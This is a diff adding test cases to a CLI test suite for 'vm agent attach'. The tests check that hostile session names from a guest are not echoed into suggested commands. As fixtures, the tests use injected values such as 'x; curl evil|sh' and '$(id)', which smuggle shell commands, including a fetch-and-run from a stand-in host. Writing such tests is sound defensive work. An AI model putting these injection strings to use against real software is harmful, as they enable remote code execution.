@@ -310,6 +310,18 @@ describe('vm agent start|list|attach', () => {
     const two = await cli(['vm', 'agent', 'attach', 'dev']);
     assert.equal(two.code, 2);
     assert.match(two.stderr, /dev runs 2 agent sessions \(claude, codex\): say which/);
+    // A guest's session names never go into a command to copy unless they are agent names.
+    sessions = [session('x; curl evil|sh', 'claude'), session('codex', 'codex')];
+    const hostile = await cli(['vm', 'agent', 'attach', 'dev']);
+    assert.equal(hostile.code, 2);
+    assert.match(hostile.stderr, /dev runs 2 agent sessions \(x; curl evil\|sh \(not an agent name\), codex\): say which/);
+    assert.match(hostile.stderr, /banger vm agent attach dev --agent codex/);
+    assert.doesNotMatch(hostile.stderr, /--agent x;/);
+    sessions = [session('x; curl evil|sh', 'claude'), session('$(id)', 'codex')];
+    const noName = await cli(['vm', 'agent', 'attach', 'dev']);
+    assert.doesNotMatch(noName.stderr, /--agent/);
+    assert.match(noName.stderr, /banger vm agent list dev/);
+    sessions = [session('claude', 'claude'), session('work', null), session('codex', 'codex')];
     const missing = await cli(['vm', 'agent', 'attach', 'dev', '--agent', 'pi']);
     assert.equal(missing.code, 1);
     assert.match(missing.stderr, /no agent session pi in dev/);
